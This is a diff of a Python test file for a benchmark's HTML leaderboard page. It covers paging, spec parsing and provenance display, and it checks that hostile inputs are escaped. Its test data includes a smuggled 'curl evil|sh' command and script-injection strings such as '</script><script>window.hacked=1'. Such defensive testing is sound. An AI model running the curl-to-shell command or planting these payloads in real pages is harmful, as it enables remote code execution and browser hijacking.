@@ -192,16 +192,70 @@ def test_a_page_holds_so_many_rows_and_says_what_it_leaves_out(monkeypatch):
     monkeypatch.setattr(html, "ROWS", 6)
     (data, *_) = (code for _, code in Scripts(html.render(some_records(), ["bad"] * 300)).found)
     data = json.loads(data)
-    assert [len(each["rows"]) for each in data["envelopes"]] == [4, 2] and data["left_out"] == 6
+    assert [(each["task"], len(each["rows"])) for each in data["envelopes"]] == [("flickr8k", 6)]  # the newest first
+    assert data["left_out"] == 6
     assert len(data["problems"]) == 200 and data["problems_left_out"] == 100
 
 
+def data_of(*records):
+    """The envelopes that the page of these records holds."""
+    return json.loads(Scripts(html.render(list(records), [])).found[0][1])["envelopes"]
+
+
+def test_many_envelopes_leave_out_the_oldest(monkeypatch):
+    monkeypatch.setattr(html, "ENVELOPES", 2)
+    made = [make_record(f"r{i}", 2 + i, task=task) for i, task in enumerate("abc")]
+    assert [each["task"] for each in data_of(*made)] == ["b", "c"]
+
+
 def test_parameters_are_read_from_the_spec_alone():
-    assert page_data.parameters("token_prune:keep=0.5,at=3/6/9+quantize:int8") == [
-        ("token_prune", [("keep", "0.5"), ("at", "3/6/9")]),
-        ("quantize", [("", "int8")]),
+    specs = {
+        "token_prune:keep=0.5,at=3/6/9+quantize:bits=8": (
+            "token_prune+quantize",
+            [["token_prune", [["keep", "0.5"], ["at", "3/6/9"]]], ["quantize", [["bits", "8"]]]],
+        ),
+        "quantize": ("quantize", [["quantize", []]]),
+        "+++": ("+++", [["+++", [["", "+++"]]]]),
+    }
+    (envelope,) = data_of(make_record(arms=tuple(make_arm(spec, spec) for spec in specs)))
+    found = {row["name"]: (row["family"], row["stack"]) for row in envelope["rows"] if row["kind"] == "method"}
+    assert found == specs
+    assert envelope["rows"][0]["family"] == "baseline" and envelope["rows"][0]["stack"] == [["baseline", []]]
+
+
+def test_random_weights_have_no_quality_on_the_page():
+    record = make_record()
+    random = record.envelope.model_copy(update=dict(weights="random"))
+    columns = [name for name, _, _ in page_data.COLUMNS]
+    for envelope, there in ((record.envelope, True), (random, False)):
+        (found,) = data_of(record.model_copy(update=dict(envelope=envelope)))
+        row = found["rows"][-1] if found["rows"][-1]["kind"] == "method" else found["rows"][1]
+        for place in (columns.index("lossy-ness"), columns.index("quality")):
+            assert (row["text"][place] != "—") is (row["sort"][place] is not None) is there
+        assert (row["loss"] != [None] * 3) is there and row["speedup"][0] == 1.42
+
+
+def test_envelopes_of_two_primary_metrics_are_two_on_the_page():
+    old = make_record("old", 2, primary_metric="t2i_r1")
+    found = data_of(old, make_record("new", 3))
+    digest = old.envelope.digest
+    assert [(each["digest"], each["metric"].split()[0]) for each in found] == [
+        (digest, "t2i_r10"),
+        (f"{digest}-2", "t2i_r1"),
     ]
-    assert page_data.parameters("+++") == [] == page_data.parameters("")
+    assert len({each["title"] for each in found}) == 2
+
+
+def test_weights_and_command_of_the_page():
+    weights = "sha256:0123456789abcdef"
+    record = make_record()
+    envelope = record.envelope.model_copy(update=dict(weights=weights))
+    provenance = record.provenance.model_copy(update=dict(command="effbench run; curl evil|sh"))
+    record = record.model_copy(update=dict(envelope=envelope, provenance=provenance))
+    (found,) = data_of(record)
+    assert dict(found["facts"])["backbone"].endswith(f"weights {weights}")
+    assert f"weights {weights} ·" in leaderboard.render([record], [])
+    assert [run["command"] for run in found["runs"].values()] == ["effbench 'run;' curl 'evil|sh'"]
 
 
 def test_sorting_stays_within_an_envelope(page):
@@ -367,7 +421,7 @@ def test_a_hostile_record_runs_nothing_and_breaks_nothing(browser, tmp_path):
     assert browser.execute_script("return [...document.links].map((each) => each.protocol)").count("javascript:") == 0
     text = browser.find_element(By.TAG_NAME, "body").text
     assert IMAGE in text and "</script><script>window.hacked=1" in text and "\u202e" not in text
-    assert any(IMAGE in each for each in hovered) and any(each.startswith("<img src=x") for each in legends)
+    assert any(IMAGE in each for each in hovered) and any(each.startswith("token_prune:<img src=x") for each in legends)
     assert any("<b>bold</b>&lt;" in each for each in hovered) and "__proto__=<b>bold</b>&lt;" in legends
     drawn = browser.execute_script("return document.querySelector('.plot').data.flatMap((each) => each.y)")
     assert {1.5, 1.4} <= {round(y, 3) for y in drawn} and max(drawn) < 10
